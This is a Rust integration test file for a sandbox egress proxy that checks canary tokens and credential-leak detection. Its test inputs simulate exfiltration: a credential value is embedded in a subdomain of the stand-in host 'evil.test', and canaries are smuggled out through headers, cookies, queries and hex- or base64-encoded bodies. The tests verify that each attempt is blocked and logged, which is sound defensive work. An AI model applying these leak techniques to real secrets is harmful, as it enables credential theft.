//! The commands about signals: canaries are made, listed and removed by the real program, and one that leaves is
//! refused, recorded and never arrives; `signals try` says of a request what the data path would find.

use std::fs;
use std::io::Write;
use std::process::{Output, Stdio};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use integration::{sandbar, text};
use rules::signals::canary::{CanaryShape, RANDOM_BYTES, make};
use serde_json::Value;

use crate::instance::{InstanceSetup, SandbarInstance};
use crate::origin::ScriptedOrigin;
use crate::wire::RawResponse;

/// An instance and an origin that it lets everybody reach.
struct SignalScene {
    world: SandbarInstance,
    origin: ScriptedOrigin,
}

impl SignalScene {
    fn new() -> Self {
        let origin = ScriptedOrigin::start_plain();
        let world = InstanceSetup::with_hosts(&[("a.test", origin.port())]).start();
        SignalScene { world, origin }
    }

    fn json(&self, args: &[&str]) -> Value {
        let output = self.try_command(args);
        assert!(output.status.success(), "{args:?}: {}", text(&output.stderr));
        serde_json::from_slice(&output.stdout).unwrap()
    }

    fn try_command(&self, args: &[&str]) -> Output {
        let config = self.world.config_path();
        sandbar().args(args).arg("--json").arg("-c").arg(config).output().unwrap()
    }

    fn new_canary(&self, name: &str, shape: &str) -> String {
        let made = self.json(&["canary", "new", name, "--shape", shape]);
        assert_eq!((&made["name"], &made["shape"]), (&Value::from(name), &Value::from(shape)));
        made["text"].as_str().unwrap().to_owned()
    }

    fn send(&self, method: &str, target: &str, fields: &str, body: &str) -> RawResponse {
        let (mut wire, port) = (self.world.connect(), self.origin.port());
        let length = body.len();
        wire.send(format!(
            "{method} http://a.test:{port}{target} HTTP/1.1\r\nHost: a.test:{port}\r\n{fields}\
             Content-Length: {length}\r\n\r\n{body}"
        ));
        wire.read_response(method).unwrap()
    }

    /// Everything in the log, with the events of Sandbar itself.
    fn log_text(&self) -> String {
        let segments = audit::list_segments(&self.world.log_dir()).unwrap();
        segments.iter().map(|(_, path)| fs::read_to_string(path).unwrap()).collect()
    }
}

#[test]
fn canaries_are_made_listed_and_removed() {
    let scene = SignalScene::new();
    assert_eq!(scene.json(&["canary", "list"])["canaries"], Value::Array(Vec::new()));
    let mut values = Vec::new();
    for (name, shape, part) in [
        ("a-key", "aws-key", "aws_secret_access_key = "),
        ("b-name", "dns-name", ".internal"),
        ("c-github", "github-token", "ghp_"),
        ("d-text", "sentence", "recovery phrase"),
        ("e_token.1", "token", ""),
    ] {
        let planted = scene.new_canary(name, shape);
        assert!(planted.contains(part) && planted.len() > 20, "{name}: {planted}");
        values.extend(planted.split([' ', '\n', '=']).filter(|word| word.len() > 20).map(str::to_owned));
    }
    let shown = scene.world.run_command(&["canary", "new", "f-default"]);
    assert!(shown.contains("never shown again") && shown.contains("canary_used"), "{shown}");

    let listed = scene.json(&["canary", "list"]);
    let names = listed["canaries"].as_array().unwrap().iter().map(|canary| canary["name"].as_str().unwrap());
    assert_eq!(
        names.collect::<Vec<_>>(),
        ["a-key", "b-name", "c-github", "d-text", "e_token.1", "f-default"]
    );
    assert_eq!(listed["canaries"][5]["shape"], "token");

    for (args, wanted) in [
        (&["canary", "new", "a-key"][..], "a canary `a-key` already"),
        (&["canary", "new", "a/b"], "letters, digits"),
        (&["canary", "new", ""], "letters, digits"),
        (&["canary", "remove", "none"], "no canary `none`"),
        (&["canary", "remove", "../grants/1"], "no canary `../grants/1`"),
        (&["canary", "remove", ""], "no canary ``"),
    ] {
        let output = scene.try_command(args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        assert!(text(&output.stderr).contains(wanted), "{args:?}: {}", text(&output.stderr));
    }
    assert!(scene.world.run_command(&["canary", "remove", "b-name"]).contains("removed:"));
    let listed = scene.json(&["canary", "list"]);
    assert_eq!(listed["canaries"].as_array().unwrap().len(), 5);

    let log = scene.log_text();
    let told = format!("{log}{listed}{}", scene.world.stderr_text());
    for (event, count) in [("canary_made", 6), ("canary_removed", 1)] {
        assert_eq!(log.matches(&format!("\"event\":\"{event}\"")).count(), count, "{event}: {log}");
    }
    assert!(log.contains("canary `c-github` made by the operator (uid "), "{log}");
    assert!(values.len() >= 5, "{values:?}");
    for value in values {
        assert!(!told.contains(&value), "a value is told");
    }
}

#[test]
fn a_name_that_no_rule_allows_raises_the_alarm_of_what_is_in_it() {
    const INJECTED: &str = "k3yz0123456789abcdef0123456789";
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("key");
    fs::write(&file, INJECTED).unwrap();
    let resolver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver.set_nonblocking(true).unwrap();
    let origin = ScriptedOrigin::start_plain();
    let mut setup = InstanceSetup::with_hosts(&[("a.test", origin.port())]);
    setup.policy += "[[allow]]\nname = \"keyed\"\nhosts = [\"b.test\"]\ncredential = \"key\"\n";
    setup.tables =
        format!("[[credential]]\nname = \"key\"\nfile = \"{}\"\nhosts = [\"b.test\"]\n", file.display());
    setup.resolver = Some(resolver.local_addr().unwrap());
    let scene = SignalScene { world: setup.start(), origin };
    let canary = scene.new_canary("planted-name", "dns-name").to_lowercase();
    let port = scene.origin.port();
    for (name, code) in [(canary, "canary_used"), (format!("{INJECTED}.evil.test"), "credential_leaving")] {
        let socks = [&[5, 1, 0, 3, name.len() as u8][..], name.as_bytes(), &port.to_be_bytes()].concat();
        for (what, hello, request) in [
            (
                "CONNECT",
                None,
                format!("CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n").into_bytes(),
            ),
            (
                "SOCKS",
                Some([5_u8, 1, 0]),
                [&[5, 1, 0, 3, name.len() as u8][..], name.as_bytes(), &[1, 187]].concat(),
            ),
            ("SOCKS, another port", Some([5_u8, 1, 0]), socks),
            (
                "absolute",
                None,
                format!("GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n")
                    .into_bytes(),
            ),
        ] {
            let since = scene.world.record_count();
            let mut wire = scene.world.connect();
            if let Some(hello) = hello {
                wire.send(hello);
                assert_eq!(wire.read_exact(2), Some(vec![5, 0]), "{what}");
            }
            wire.send(request);
            let said = wire.read_to_end();
            assert!(!said.starts_with(b"HTTP/1.1 200") && !said.starts_with(&[5, 0]), "{what}: granted");
            let refused = scene.world.wait_for_record(since, what, |record| {
                record["class_uid"] != 2004 && record["disposition"] == "Blocked"
            });
            let found = scene.world.wait_for_record(since, what, |record| record["class_uid"] == 2004);
            assert_eq!(found["finding_info"]["types"][0], code, "{what}: {found}");
            let attempt = refused["metadata"]["correlation_uid"].as_str().unwrap();
            assert!(found.to_string().contains(attempt), "{what}: {found} is not linked to {refused}");
        }
    }
    assert!(scene.origin.connections().is_empty(), "a connection arrived");
    assert!(resolver.recv(&mut [0; 512]).is_err(), "a query arrived");
}

#[test]
fn a_canary_is_refused_wherever_it_leaves() {
    let mut scene = SignalScene::new();
    let canary = scene.new_canary("deploy-key", "token");
    let encoded = STANDARD.encode(format!("key={canary};"));
    let hex: String = canary.bytes().map(|byte| format!("{byte:02x}")).collect();
    let (half, rest) = canary.split_at(20);
    for (what, method, target, fields, body) in [
        ("header", "GET", "/".to_owned(), format!("X-Data: {canary}\r\n"), String::new()),
        ("two headers", "GET", "/".to_owned(), format!("X-A: {half}\r\nX-B: {rest}\r\n"), String::new()),
        ("cookie", "GET", "/".to_owned(), format!("Cookie: a=b; c={canary}\r\n"), String::new()),
        ("path", "GET", format!("/{canary}/x"), String::new(), String::new()),
        ("query", "GET", format!("/?q={canary}"), String::new(), String::new()),
        ("query, hex", "GET", format!("/?q={hex}"), String::new(), String::new()),
        ("body", "POST", "/".to_owned(), String::new(), format!("{{\"note\": \"{canary}\"}}")),
        ("body, base64", "POST", "/".to_owned(), String::new(), format!("{{\"note\": \"{encoded}\"}}")),
    ] {
        let answer = scene.send(method, &target, &fields, &body);
        assert_eq!(answer.status, 403, "{what}: {}", answer.text());
        assert_eq!(answer.field("sandbar-reason"), Some("canary_used"), "{what}");
        assert!(!answer.text().contains(&canary), "{what}: {}", answer.text());
        let id = answer.field("sandbar-record").unwrap().to_owned();
        let of_attempt = |record: &Value| record.to_string().contains(&id);
        let refused = scene.world.wait_for_record(0, what, |record| {
            of_attempt(record) && record["class_uid"] != 2004 && record["status_detail"] == "canary_used"
        });
        assert_ne!(refused["disposition"], "Allowed", "{what}: {refused}");
        let found =
            scene.world.wait_for_record(0, what, |record| of_attempt(record) && record["class_uid"] == 2004);
        let said = found["message"].as_str().unwrap();
        assert!(said.contains("canary \"deploy-key\"") && said.contains("refused"), "{what}: {said}");
    }
    assert!(scene.origin.requests().is_empty(), "a request arrived");
    for seen in scene.origin.connections() {
        let arrived = String::from_utf8_lossy(&seen.bytes).into_owned();
        let leaked = [&canary, &hex, &encoded].iter().any(|form| arrived.contains(form.as_str()));
        assert!(!leaked, "{arrived}");
    }
    // The path and the query of an attempt are in its own record, as the sandbox wrote them; a finding quotes nothing.
    let findings = scene.world.records().into_iter().filter(|record| record["class_uid"] == 2004);
    assert!(!findings.map(|record| record.to_string()).any(|finding| finding.contains(&canary)));

    let status = scene.json(&["status", "--sandbox", "one"]);
    assert!(status["signals"]["canary_used"]["denied"].as_u64().unwrap() >= 8, "{status}");
    assert!(scene.world.run_command(&["status", "--sandbox", "one"]).contains("canary_used"));
    scene.world.run_command(&["canary", "remove", "deploy-key"]);
    assert_eq!(scene.send("GET", &format!("/?q={canary}"), "", "").status, 200);
    assert!(scene.world.stop(), "sandbar ends well");
}

#[test]
fn flow_says_what_is_known_of_a_sandbox() {
    let scene = SignalScene::new();
    let shown = scene.world.run_command(&["flow", "--sandbox", "one"]);
    assert!(shown.contains("no text of a memory bank is known to have left"), "{shown}");
    assert_eq!(scene.json(&["flow", "--sandbox", "one"])["flows"], Value::Array(Vec::new()));
    for (sandbox, status, wanted) in
        [("other", 2, "no sandbox `other` is configured"), ("a b/c", 64, "invalid sandbox")]
    {
        let output = scene.try_command(&["flow", "--sandbox", sandbox]);
        assert_eq!(output.status.code(), Some(status), "{sandbox}");
        assert!(text(&output.stderr).contains(wanted), "{sandbox}: {}", text(&output.stderr));
    }
}

/// Runs `signals try -` with a request.
fn try_signals(args: &[&str], request: &[u8]) -> Output {
    let mut child = sandbar()
        .args(["signals", "try", "-"])
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdin.take().unwrap().write_all(request)); // a usage error ends it before it reads
    child.wait_with_output().unwrap()
}

fn github_token() -> String {
    let random: [u8; RANDOM_BYTES] = std::array::from_fn(|at| (at * 37 + 11) as u8);
    make(CanaryShape::GithubToken, "x", &random).unwrap().text()
}

// proves: signals.thresholds.header_bits_per_hour, allow.signals.thresholds.header_bits_per_hour
// proves: memory.signals.thresholds.header_bits_per_hour
#[test]
fn bits_of_an_hour_are_flagged_beyond_their_threshold() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("p.toml");
    let set = "signals = { thresholds = { header_bits_per_hour = 50 } }\n";
    for (policy, allow, memory) in [("", "", ""), (set, "", ""), ("", set, ""), ("", "", set)] {
        let rules = format!(
            "name = \"p\"\n{policy}[[allow]]\nname = \"web\"\nhosts = [\"a.example\"]\n{allow}[[memory]]\n\
             name = \"memory\"\nhost = \"m.example\"\nprofile = \"astrocyte\"\nrecall = [\"staging:a\"]\n{memory}"
        );
        fs::write(&path, &rules).unwrap();
        let shown = path.display().to_string();
        for (host, own) in [("a.example", allow), ("m.example", memory)] {
            let request = format!("GET /v1/health HTTP/1.1\r\nHost: {host}\r\nX-Say: something\r\n\r\n");
            let output = try_signals(&["--policy", &shown, "--json"], request.as_bytes());
            let tried: Value =
                serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{output:?}"));
            let form = tried["form"].as_array().unwrap();
            let found = form.iter().find(|signal| signal["code"] == "header_bits");
            let expected = !policy.is_empty() || !own.is_empty();
            assert_eq!(found.is_some(), expected, "{host}: {rules}: {form:?}");
            assert!(found.is_none_or(|signal| signal["threshold"] == 50), "{found:?}");
        }
    }
}

#[test]
fn a_request_is_tried_by_the_policy() {
    let token = github_token();
    let encoded = STANDARD.encode(format!("token: {token}"));
    let dir = tempfile::tempdir().unwrap();
    let policy = |name: &str, more: &str| {
        let path = dir.path().join(format!("{name}.toml"));
        let rules =
            format!("name = \"{name}\"\n{more}\n[[allow]]\nname = \"api\"\nhosts = [\"api.example\"]\n");
        fs::write(&path, rules).unwrap();
        path.display().to_string()
    };
    let (plain, off) = (policy("plain", ""), policy("off", "[signals]\nsecrets = \"off\"\n"));
    let deny = policy("deny", "[signals]\nsecrets = \"deny\"\n");
    let tunnel = policy("tunnel", "[[allow]]\nname = \"t\"\nhosts = [\"t.example\"]\ntls = \"tunnel\"\n");
    let bits = policy("bits", "[budget]\nheader_bits_per_hour = 50\n");
    let clean = "GET /v1 HTTP/1.1\r\nHost: api.example\r\n\r\n".to_owned();
    let field = format!("GET /v1 HTTP/1.1\r\nHost: api.example\r\nX-Key: {token}\r\n\r\n");
    let body = format!(
        "POST /v1 HTTP/1.1\r\nHost: api.example\r\nContent-Length: {}\r\n\r\n{encoded}",
        encoded.len()
    );
    let found = "GitHub token in header field `x-key`";
    for (what, args, request, status, wanted) in [
        ("clean", &[][..], &clean, 0, "no secret"),
        ("by default", &[], &field, 0, found),
        ("encoded", &[], &body, 0, "GitHub token in the body, as base64"),
        ("a policy without signals", &["--policy", &plain], &field, 0, "flag secret_found"),
        ("off", &["--policy", &off], &field, 0, "off  secret_found"),
        ("deny", &["--policy", &deny], &field, 1, "deny secret_found"),
        ("deny, encoded", &["--policy", &deny], &body, 1, "deny secret_found"),
        ("deny, clean", &["--policy", &deny], &clean, 0, "no secret"),
        ("elsewhere", &["--policy", &deny, "--host", "https://b.example"], &clean, 1, "not_listed"),
        ("tunnel", &["--policy", &tunnel, "--host", "https://t.example"], &field, 0, "is not inspected"),
        ("budget", &["--policy", &bits], &field, 1, "exceeds the budget of 50"),
    ] {
        let output = try_signals(args, request.as_bytes());
        let shown = format!("{}{}", text(&output.stdout), text(&output.stderr));
        assert_eq!(output.status.code(), Some(status), "{what}: {shown}");
        assert!(shown.contains(wanted), "{what}: {shown}");
        assert!(!shown.contains(&token) && !shown.contains(&encoded), "{what}: the secret is shown");
    }

    let output = try_signals(&["--policy", &deny, "--json"], body.as_bytes());
    let tried: Value = serde_json::from_slice(&output.stdout).unwrap();
    let signal = &tried["content"][0];
    assert_eq!(tried["denied"], true);
    assert_eq!(
        [&signal["code"], &signal["what"], &signal["key"], &signal["verdict"], &signal["encodings"][0]],
        ["secret_found", "GitHub token", "secrets", "deny", "base64"]
    );
    assert!(tried["header_bits"]["bits"].as_u64().unwrap() > 10, "{tried}");

    let long = format!("GET /v1 HTTP/1.1\r\nHost: api.example\r\nX-Data: {}\r\n\r\n", hex_run(600));
    let output = try_signals(&["--json"], long.as_bytes());
    let tried: Value = serde_json::from_slice(&output.stdout).unwrap();
    let form = tried["form"].as_array().unwrap().iter().find(|one| one["code"] == "encoded_run").unwrap();
    assert!(form["value"].as_u64() > form["threshold"].as_u64(), "{tried}");
    let dearest = &tried["header_bits"]["dearest"][0];
    assert_eq!(dearest["place"], "header field `x-data`", "{tried}");
    assert!(dearest["bits"].as_u64().unwrap() >= 4 * 600, "{tried}");
}

/// Digits that do not repeat.
fn hex_run(length: usize) -> String {
    let mut state = 1_u32;
    let digits = std::iter::repeat_with(|| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        char::from_digit(state >> 28, 16).unwrap()
    });
    digits.take(length).collect()
}

#[test]
fn canaries_and_credentials_of_an_instance_are_tried_too() {
    let secret = tempfile::tempdir().unwrap();
    let key = secret.path().join("key");
    fs::write(&key, "s3cr3t-0123456789-abcdef\n").unwrap();
    let tables =
        format!("[[credential]]\nname = \"key\"\nfile = \"{}\"\nhosts = [\"b.test\"]\n", key.display());
    let setup = InstanceSetup::with_hosts(&[("a.test", 443)]);
    let scene = SignalScene {
        world: InstanceSetup { tables, ..setup }.start(),
        origin: ScriptedOrigin::start_plain(),
    };
    let canary = scene.new_canary("planted", "sentence");
    let config = scene.world.config_path().display().to_string();
    for (value, code) in
        [(canary.as_str(), "canary_used"), ("s3cr3t-0123456789-abcdef", "credential_leaving")]
    {
        let request = format!("GET / HTTP/1.1\nHost: a.test\nX-Note: {value}\n\n");
        let output = try_signals(&["-c", &config], request.as_bytes());
        let shown = text(&output.stdout);
        assert_eq!(output.status.code(), Some(1), "{shown}{}", text(&output.stderr));
        assert!(shown.contains(&format!("deny {code}")) && !shown.contains(value), "{shown}");
    }
}

#[test]
fn bad_input_is_explained() {
    for (args, request, status, wanted) in [
        (&[][..], "", 2, "empty line"),
        (&[], "hello\r\n\r\n", 2, "not an HTTP/1.1 request"),
        (&[], "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", 2, "exactly one `Host`"),
        (&[], "POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 9\r\n\r\nx", 2, "says 9 bytes"),
        (&["--host", "ftp://a.example"], "GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", 64, "scheme"),
        (&["--sandbox", "one"], "GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", 64, "needs a policy"),
        (&["--policy", "/nonexistent.toml"], "GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", 2, "nonexistent"),
    ] {
        let output = try_signals(args, request.as_bytes());
        let said = text(&output.stderr);
        assert_eq!(output.status.code(), Some(status), "{request:?}: {said}");
        assert!(said.contains(wanted), "{request:?}: {said}");
    }
    let output = sandbar().args(["signals", "try", "/nonexistent"]).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(text(&output.stderr).contains("cannot read /nonexistent"), "{}", text(&output.stderr));
}

#[test]
fn the_signals_are_listed_with_what_governs_them() {
    let output = sandbar().args(["signals", "list", "--json"]).output().unwrap();
    let listed: Value = serde_json::from_slice(&output.stdout).unwrap();
    let by_code = |code: &str| {
        let all = listed["signals"].as_array().unwrap();
        all.iter().find(|signal| signal["code"] == code).unwrap_or_else(|| panic!("no {code}")).clone()
    };
    for (code, keys, default) in [
        ("canary_used", &["canaries"][..], "deny"),
        ("content_unsearched", &["body", "headers", "url"], "flag"),
        ("credential_leaving", &[], "deny"),
        ("encoded_run", &["headers", "url"], "flag"),
        ("memory_flow", &["memory_flow"], "flag"),
        ("secret_found", &["secrets"], "flag"),
        ("upload_ratio", &["body"], "flag"),
    ] {
        let signal = by_code(code);
        assert_eq!(
            (&signal["keys"], &signal["default"]),
            (&Value::from(keys), &Value::from(default)),
            "{code}"
        );
    }
    assert!(listed["secrets"].as_array().unwrap().iter().any(|name| name == "GitHub token"));
    assert!(!listed["thresholds"].as_array().unwrap().is_empty());
    let shown = text(&sandbar().args(["signals", "list"]).output().unwrap().stdout);
    assert!(shown.contains("always denied") && shown.contains("encoded_run_characters"), "{shown}");
}
